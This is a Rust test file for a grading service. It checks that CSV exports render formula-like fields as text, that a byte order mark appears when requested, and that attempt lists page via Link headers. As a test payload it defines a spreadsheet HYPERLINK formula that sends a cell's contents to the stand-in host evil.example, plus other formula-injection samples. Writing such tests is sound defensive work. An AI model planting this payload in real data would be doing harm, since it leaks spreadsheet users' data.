//! Every CSV export, on SQLite and PostgreSQL: a field that starts like a formula (a display
//! name a student chose, an id a grader's roster holds) is written as text; every export that
//! has student ids names the students; `bom=true` starts each with a UTF-8 byte order mark;
//! and the list of attempts pages with a `Link` header instead of stopping at its limit.

use axum::http::StatusCode;
use serde_json::json;
use server::{Config, Store};

use crate::common::{failing_design, passing_design, spawn_app_on, As, TempDir, TestApp};
use crate::grading::parse_csv;

/// The display name a student chose, as a spreadsheet would run it.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";

/// What a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

async fn on_sqlite(label: &str) -> TestApp {
    let dir = TempDir::new(label);
    let store = Store::connect(&dir.sqlite_url())
        .await
        .expect("a fresh SQLite database");
    spawn_app_on(store, Config::default(), dir)
}

/// A class with one member named [`FORMULA_NAME`], who submitted once for it: the class id
/// and the student's id.
async fn class_with_a_formula_name(app: &TestApp, token: &str) -> (String, String) {
    let made = app
        .post(
            "/api/classes",
            &As::grader(token),
            &json!({"name": "Course"}),
        )
        .await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.text);
    let class = made.body["id"].as_str().unwrap().to_string();
    let code = made.body["join_code"].as_str().unwrap();
    let (cookie, student) = app.new_student().await;
    let joined = app
        .post(
            "/api/classes/join",
            &As::student(&cookie),
            &json!({"code": code, "display_name": FORMULA_NAME}),
        )
        .await;
    assert!(joined.status.is_success(), "{}", joined.text);
    let submitted = app
        .post(
            "/api/submissions",
            &As::student(&cookie),
            &json!({"scenario": "safe-retry", "design": failing_design(), "class": class}),
        )
        .await;
    assert_eq!(submitted.status, StatusCode::CREATED, "{}", submitted.text);
    (class, student)
}

/// Fails unless no field of `text` starts like a formula, and the fields in `expected` are
/// there, each as text (a single quote before it).
fn assert_no_formula(what: &str, text: &str, expected: &[&str]) {
    let records = parse_csv(text);
    for field in records.iter().flatten() {
        assert!(
            !field.starts_with(FORMULA_STARTS),
            "{what}: the field {field:?} would run as a formula:\n{text}"
        );
    }
    for value in expected {
        let as_text = format!("'{value}");
        assert!(
            records.iter().flatten().any(|f| *f == as_text),
            "{what}: no field {as_text:?}:\n{text}"
        );
    }
}

async fn every_csv_export_writes_a_formula_as_text(app: &TestApp) {
    let token = app.grader_token("ta").await;
    let grader = As::grader(&token);
    let (class, student) = class_with_a_formula_name(app, &token).await;

    let matrix = app
        .get(&format!("/api/classes/{class}/matrix?format=csv"), &grader)
        .await;
    assert_eq!(matrix.status, StatusCode::OK, "{}", matrix.text);
    assert_no_formula("the matrix", &matrix.text, &[FORMULA_NAME]);

    let attempts = app
        .get(
            &format!("/api/classes/{class}/attempts?format=csv"),
            &grader,
        )
        .await;
    assert_eq!(attempts.status, StatusCode::OK, "{}", attempts.text);
    assert_no_formula("the class's attempts", &attempts.text, &[FORMULA_NAME]);

    let listed = app
        .get("/api/submissions?format=csv&scenario=safe-retry", &grader)
        .await;
    assert_eq!(listed.status, StatusCode::OK, "{}", listed.text);
    assert_no_formula("the attempts list", &listed.text, &[FORMULA_NAME]);

    // A grader's roster may hold ids that start like formulas too; the graded student's name
    // comes from the class they joined.
    let batch = json!([
        {"scenario": "safe-retry", "student": student, "design": passing_design("safe-retry")},
        {"scenario": "safe-retry", "student": "+SUM(1,2)", "design": failing_design()},
        {"scenario": "safe-retry", "student": "-2+3", "design": failing_design()},
        {"scenario": "safe-retry", "student": "@cmd", "design": {"nodes": []}},
    ]);
    let graded = app.post("/api/grade?format=csv", &grader, &batch).await;
    assert_eq!(graded.status, StatusCode::OK, "{}", graded.text);
    assert_no_formula(
        "the grading",
        &graded.text,
        &[FORMULA_NAME, "+SUM(1,2)", "-2+3", "@cmd"],
    );
    let rows = parse_csv(&graded.text);
    assert_eq!(
        rows[1][..3],
        [student.as_str(), &format!("'{FORMULA_NAME}"), "safe-retry"]
    );
}

crate::on_both_databases!(every_csv_export_writes_a_formula_as_text, |db| {
    every_csv_export_writes_a_formula_as_text(&db.app().await).await;
});

#[tokio::test]
async fn every_csv_export_starts_with_a_byte_order_mark_when_asked() {
    let app = on_sqlite("csv-bom").await;
    let token = app.grader_token("ta").await;
    let grader = As::grader(&token);
    let (class, _) = class_with_a_formula_name(&app, &token).await;
    let batch = json!([{"scenario": "safe-retry", "student": "zoë", "design": failing_design()}]);
    for bom in ["", "&bom=false", "&bom=true"] {
        let answers = [
            app.post(&format!("/api/grade?format=csv{bom}"), &grader, &batch)
                .await,
            app.get(&format!("/api/submissions?format=csv{bom}"), &grader)
                .await,
            app.get(
                &format!("/api/classes/{class}/matrix?format=csv{bom}"),
                &grader,
            )
            .await,
            app.get(
                &format!("/api/classes/{class}/attempts?format=csv{bom}"),
                &grader,
            )
            .await,
        ];
        for answer in answers {
            assert_eq!(answer.status, StatusCode::OK, "{bom}: {}", answer.text);
            assert_eq!(
                answer.header("content-type"),
                Some("text/csv; charset=utf-8")
            );
            assert_eq!(
                answer.text.starts_with('\u{feff}'),
                bom == "&bom=true",
                "{bom}: {:?}",
                answer.text
            );
            assert!(answer
                .text
                .trim_start_matches('\u{feff}')
                .starts_with("student,"));
        }
    }
    let bad = app
        .get("/api/submissions?format=csv&bom=maybe", &grader)
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST, "{}", bad.text);
}

async fn the_attempts_list_pages_with_a_link_to_the_next_page(app: &TestApp) {
    let token = app.grader_token("ta").await;
    let grader = As::grader(&token);
    let batch: Vec<_> = (0..5)
        .map(|i| json!({"scenario": "safe-retry", "student": format!("s{i}"), "design": failing_design()}))
        .collect();
    let graded = app.post("/api/grade", &grader, &json!(batch)).await;
    assert_eq!(graded.status, StatusCode::OK, "{}", graded.text);

    for format in ["json", "csv"] {
        let mut seen = Vec::new();
        let mut next = Some(format!(
            "/api/submissions?scenario=safe-retry&limit=2&format={format}"
        ));
        let mut pages = 0;
        while let Some(url) = next.take() {
            pages += 1;
            assert!(pages <= 3, "{format}: more pages than attempts");
            let page = app.get(&url, &grader).await;
            assert_eq!(page.status, StatusCode::OK, "{url}: {}", page.text);
            let ids: Vec<String> = if format == "json" {
                page.body
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|a| a["id"].as_str().unwrap().to_string())
                    .collect()
            } else {
                parse_csv(&page.text)[1..]
                    .iter()
                    .map(|r| r[7].clone())
                    .collect()
            };
            assert!(ids.len() <= 2, "{url}: {ids:?}");
            seen.extend(ids);
            next = page.header("link").map(|link| {
                assert!(link.ends_with(">; rel=\"next\""), "{link}");
                let target = link.trim_start_matches('<').split('>').next().unwrap();
                assert!(target.contains("scenario=safe-retry") && target.contains("limit=2"));
                assert!(target.contains(&format!("format={format}")), "{target}");
                target.to_string()
            });
        }
        assert_eq!(pages, 3, "{format}: 2 + 2 + 1 attempts");
        let mut unique = seen.clone();
        unique.sort();
        unique.dedup();
        assert_eq!(unique.len(), 5, "{format}: every attempt once: {seen:?}");
    }
    let all = app.get("/api/submissions?limit=5", &grader).await;
    assert!(
        all.header("link").is_none(),
        "a page that ends the list has no next page"
    );
    let unknown = app
        .get("/api/submissions?before=no-such-attempt", &grader)
        .await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(unknown.body["error"]["path"], "?before");
}

crate::on_both_databases!(the_attempts_list_pages_with_a_link_to_the_next_page, |db| {
    the_attempts_list_pages_with_a_link_to_the_next_page(&db.app().await).await;
});
